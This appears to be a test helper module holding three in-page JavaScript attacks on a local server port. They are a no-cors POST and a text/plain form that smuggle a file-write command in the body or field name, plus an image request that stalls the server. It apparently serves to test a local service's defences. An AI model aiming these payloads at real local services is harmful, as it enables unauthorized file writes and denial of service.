// What a web page can send to a port of this machine without asking anybody. Each function runs in
// the page.

/** A POST without a preflight; its body holds a whole request. */
export async function fetchAttack({port, file}) {
  const body = `\x01write\n${file}\nattacked\x01`;
  const options = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body};
  await fetch(`http://127.0.0.1:${port}/`, options).catch(() => {});
}

/** A form that is sent as text: "name=value", with the request in the name. */
export function formAttack({port, file}) {
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  const field = document.createElement("textarea");
  frame.name = "reply";
  Object.assign(form, {method: "POST", enctype: "text/plain", target: "reply", action: `http://127.0.0.1:${port}/`});
  field.name = `\x01write\n${file}\nattacked`;
  field.value = "\x01";
  form.append(field);
  document.body.append(frame, form);
  form.submit();
}

/** A picture: it can only hold the server, which waits for the end of a request that never comes. */
export function imageAttack({port}) {
  const image = document.createElement("img");
  image.src = `http://127.0.0.1:${port}/picture`;
  document.body.append(image);
}
